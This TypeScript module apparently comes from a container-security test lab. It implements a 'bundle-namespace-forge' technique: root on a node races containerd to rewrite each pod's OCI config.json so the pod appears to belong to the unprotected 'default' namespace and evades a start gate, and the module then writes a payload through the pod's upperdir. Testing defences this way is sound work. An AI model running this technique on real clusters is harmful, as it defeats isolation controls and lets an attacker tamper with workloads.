/**
 * Attack (T1562.001 Impair Defenses: Disable or Modify Tools, T1610 Deploy
 * Container, T1574.006 Dynamic Linker Hijacking): root on the node edits the
 * OCI spec containerd writes into each new task's bundle (config.json) of
 * the target pod, between containerd writing it and runc reading it, so
 * that its CRI annotation names an unprotected namespace (`default`). A
 * start gate that believes the bundle lets the pod start ungated: a
 * writable upperdir under its root, which root then writes into, as in
 * upperdir-write. The pod is still the protected namespace's pod to
 * containerd, CRI and Kubernetes.
 *
 * The forging is native/bundle-forge.c, an inotify watch on containerd's
 * task directory started before the pod, which rewrites each new bundle's
 * config.json as soon as it is written (containerd then starts the shim,
 * which runs runc: tens of milliseconds later).
 *
 * What must catch it: the start gate, which takes a task's identity from
 * containerd's record and refuses a bundle that is not the recorded spec
 * (lab/gates/bundle-spec.ts).
 */
import { copyFile } from 'node:fs/promises';
import { join } from 'node:path';
import { LabError } from '../../errors.ts';
import { compileStatic } from '../../node/native.ts';
import { waitInShell } from '../../wait.ts';
import type { Technique } from '../technique.ts';
import { requirePath, requirePayload, type AttackErrorCode } from './common.ts';
import { tryStart } from './start.ts';
import { writeThroughUpperdir } from './upperdir-write.ts';

/** Where containerd's runc shim keeps CRI's task bundles, on both substrates. */
export const TASK_DIR = '/run/containerd/io.containerd.runtime.v2.task/k8s.io';
/** A namespace no profile protects or watches. */
export const UNPROTECTED = 'default';

export const bundleNamespaceForge: Technique = {
  name: 'bundle-namespace-forge',
  async run({ node, attack, workload, pods }) {
    const path = requirePath(attack);
    const payload = requirePayload(attack);
    const namespace = workload.spec.namespace;
    const tool = join(node.shareDir, 'bundle-forge');
    await copyFile(await compileStatic(join(import.meta.dirname, 'native', 'bundle-forge.c'), 'bundle-forge'), tool);
    const ready = join(node.shareDir, 'bundle-forge.ready');
    // The sandbox's bundle and the container's: two, within a minute. containerd
    // makes the task directory at its first task; the attacker makes it first.
    const forging = node.exec.run(['sh', '-c', 'mkdir -p "$3" && echo $$ > "$1.pid" && exec "$2" "$3" "$4" "$5" 2 60 "$1"', 'sh', ready, tool, TASK_DIR, namespace, UNPROTECTED]);
    const watching = await waitInShell(node.exec, `[ -e ${ready} ]`, { timeoutMs: 10_000 });
    if (!watching.ok) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `bundle-forge did not start watching ${TASK_DIR} within 10 s: ${(await forging).stderr.toString().trim()}`);
    const start = await tryStart(node, workload, pods);
    // A refused sandbox leaves the tool waiting for a second bundle: stop it by its pid.
    await node.exec.run(['sh', '-c', 'kill "$(cat "$1.pid")" 2>/dev/null; true', 'sh', ready]);
    const r = await forging;
    const forged = r.stdout.toString().split('\n').filter((l) => l.startsWith('forged ')).map((l) => l.split(' ')[1]!);
    const evidence: Record<string, unknown> = { taskDir: TASK_DIR, from: namespace, to: UNPROTECTED, forgedBundles: forged, forgeStderr: r.stderr.toString().trim() };
    if (forged.length === 0) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `no bundle of ${namespace}/${workload.metadata.name} was forged: ${r.stderr.toString().trim() || `bundle-forge exit ${r.exitCode}`}`);
    if (!start.started) {
      return { effect: false, reason: `the pod did not start (${start.stage}) after its bundle was made to name namespace ${UNPROTECTED}: ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    }
    const written = await writeThroughUpperdir(node, start.pod, path, payload);
    const all = { ...evidence, ...written.evidence };
    if (written.effect) return { effect: true, reason: `${namespace}/${workload.metadata.name} started from bundles forged to name namespace ${UNPROTECTED}, and ${written.reason}`, evidence: all };
    // It started with the gate's read-only root: the forgery did not take, so this says nothing about the defence.
    throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${namespace}/${workload.metadata.name} started with ${forged.length} forged bundle(s) but ${written.reason}: the forged namespace did not reach the start gate`);
  },
};

